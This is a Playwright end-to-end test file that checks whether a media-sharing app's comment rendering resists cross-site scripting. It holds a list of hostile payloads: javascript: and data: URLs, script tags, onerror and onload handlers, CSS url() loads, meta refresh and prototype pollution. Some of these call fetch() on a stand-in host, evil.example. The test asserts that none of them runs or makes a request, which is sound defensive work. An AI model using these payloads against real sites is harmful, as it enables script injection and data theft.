import type { Page } from "@playwright/test";
import { thread, threads } from "./pages/thread.ts";
import { expect, test } from "./support/fixtures.ts";
import { png } from "./support/pictures.ts";
import { store } from "./support/upload.ts";

const evil = "https://evil.example";
const addresses = [
  "javascript:document.title='x'",
  "JaVaScRiPt:alert(1)",
  "java\nscript:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
  "//evil.example/x",
  "/oauth/authorize",
  "#comment-x",
];

/** Comments as people type or paste them. */
const markdown = [
  ...addresses.map((address) => `[press](${address}) [too](<${address}>) <${address}>`),
  `<script src="${evil}/a.js"></script>text`,
  `text <script>fetch("${evil}")</script>`,
  `<img src=x onerror="fetch('${evil}')"> text ![](${evil}/a.png)`,
  `<svg onload=alert(1)><image href="${evil}/a.svg"/></svg> text`,
  `<iframe src="${evil}"></iframe><object data="${evil}"></object> text`,
  `<style>@import "${evil}/a.css";*{background:url(${evil})}</style> text`,
  `<b style="background:url(${evil})" onclick=alert(1)>text</b> <u onmouseover=alert(1)>u</u>`,
  `<link rel=prefetch href=${evil}><meta http-equiv=refresh content="0;url=${evil}"><base href=${evil}> text`,
  `<form action=${evil}><input autofocus onfocus=alert(1)></form> text`,
  `<details open ontoggle=alert(1)>text`,
  `<!--><img src=x onerror=alert(1)>--> text`,
  "`` <script>alert(1)</script> `` \n\n```html\n<script>alert(1)</script>\n```",
  `[x]: javascript:alert(1)\n\n[x] text`,
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;`,
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} text",
];

const text = (value: string, ...marks: unknown[]) => ({ type: "text", text: value, marks });
const paragraph = (...content: unknown[]) => ({ type: "paragraph", content });
const doc = (...content: unknown[]) => ({ type: "doc", content });

/** Comments as a program sends them. */
const documents = [
  ...addresses.map((href) => doc(paragraph(text("press", { type: "link", attrs: { href, onclick: "alert(1)", target: "_self" } })))),
  doc(paragraph(text("text"), { type: "mention", attrs: { id: "x", label: "<img src=x onerror=alert(1)>" } })),
  doc(paragraph(text("<script>alert(1)</script>"))),
  doc({ type: "codeBlock", attrs: { language: '"><script>alert(1)</script>' }, content: [{ type: "text", text: "code" }] }),
  doc({ type: "paragraph", attrs: { onclick: "alert(1)", style: `background:url(${evil})` }, content: [text("text")] }),
];

/** Documents that our service refuses and another one might return. */
const foreign = [
  doc({ type: "image", attrs: { src: `${evil}/a.png` } }, paragraph(text("text"))),
  doc({ type: "iframe", attrs: { src: evil } }, { type: "script", content: [text("alert(1)")] }, paragraph(text("text"))),
  doc({ type: "html", attrs: { dangerouslySetInnerHTML: { __html: "<img src=x onerror=alert(1)>" } } }, paragraph(text("text"))),
  { ...doc(paragraph(text("text", { type: "style", attrs: { css: `url(${evil})` } }))), __proto__: { type: "script" } },
  Array.from({ length: 200 }).reduce<unknown>((inner) => ({ type: "blockquote", content: [inner] }), paragraph(text("deep"))),
];

/** Records dialogs, popups, navigations and requests to other origins. */
function guard(page: Page, origin: string) {
  const seen: string[] = [];
  page.on("dialog", (dialog) => (seen.push(`dialog: ${dialog.message()}`), void dialog.dismiss()));
  page.on("popup", (popup) => seen.push(`popup: ${popup.url()}`));
  page.on("request", (request) => {
    const { protocol, origin: asked } = new URL(request.url());
    if (protocol.startsWith("http") && asked !== origin) seen.push(`request: ${request.url()}`);
  });
  page.on("framenavigated", (frame) => {
    if (frame !== page.mainFrame() || new URL(frame.url()).origin !== origin) seen.push(`frame: ${frame.url()}`);
  });
  return seen;
}

/** Opens every thread and checks its rendered elements and links. */
async function readAll(page: Page, count: number) {
  await expect(threads(page).rows).toHaveCount(count, { timeout: 20_000 });
  for (let number = 1; number <= count; number++) {
    const open = thread(page, number, count).region;
    // The list is server-rendered: the first press counts once the page is hydrated.
    await expect(async () => {
      await page.keyboard.press("n");
      await expect(open).toBeVisible({ timeout: number === 1 ? 2000 : 10_000 });
    }).toPass();
    const body = open.locator('[id^="comment-"]').first();
    expect(await body.locator("script, img, iframe, object, embed, style, link, meta, form, base, svg:not(.lucide)").count()).toBe(0);
    const found = await body.evaluate((element) =>
      [...element.querySelectorAll("*")].flatMap((it) => [
        ...[...it.attributes].filter(({ name }) => name.startsWith("on")).map(({ name }) => name),
        ...(it instanceof HTMLAnchorElement && !["http:", "https:", "mailto:"].includes(it.protocol) ? [it.href] : []),
        ...(it instanceof HTMLAnchorElement && (it.target !== "_blank" || !it.rel.includes("noopener")) ? [it.outerHTML] : []),
      ]),
    );
    expect(found).toEqual([]);
  }
}

test("hostile comments run no script, navigate nowhere and send no request [security: comments cannot run code]", async ({
  page,
  team,
  another,
}) => {
  test.setTimeout(180_000);
  const media = await store(page, team, await png());
  const origin = new URL(media.url).origin;
  let stored = 0;
  for (const body of [...markdown, ...documents]) {
    const answer = await page.request.post(`/api/v2/media/${media.id}/comments`, { data: { body }, headers: { origin } });
    // Some have no text left and are refused.
    expect([201, 400], JSON.stringify(body)).toContain(answer.status());
    if (answer.status() === 201) stored++;
  }
  expect(stored).toBeGreaterThan(20);
  const visitor = await another("visitor");
  const seen = guard(visitor, origin);
  await visitor.goto(media.url);
  const title = await visitor.title();
  await readAll(visitor, stored);
  expect(seen).toEqual([]);
  expect((await visitor.title()).replace(/^\(\d+\) /, "")).toBe(title.replace(/^\(\d+\) /, ""));
});

test("unknown nodes of a comment from another service are not rendered [security: unknown comment nodes are dropped]", async ({
  page,
  team,
  another,
}) => {
  const media = await store(page, team, await png());
  const origin = new URL(media.url).origin;
  const visitor = await another("visitor");
  const seen = guard(visitor, origin);
  const list = foreign.map((body, index) => ({
    id: `comment-${index}`,
    mediaId: media.id,
    mediaVersionId: null,
    threadId: null,
    body,
    text: "text",
    author: { id: "x", slug: "x", name: "<img src=x onerror=alert(1)>" },
    agent: null,
    anchor: null,
    resolvedAt: null,
    editedAt: null,
    createdAt: "2025-11-01T10:00:00.000Z",
    reactions: [],
  }));
  await visitor.route(/\/shares\/[^/]+\/comments/, (route) => route.fulfill({ json: list }));
  await visitor.goto(media.url);
  await readAll(visitor, list.length);
  expect(seen).toEqual([]);
});
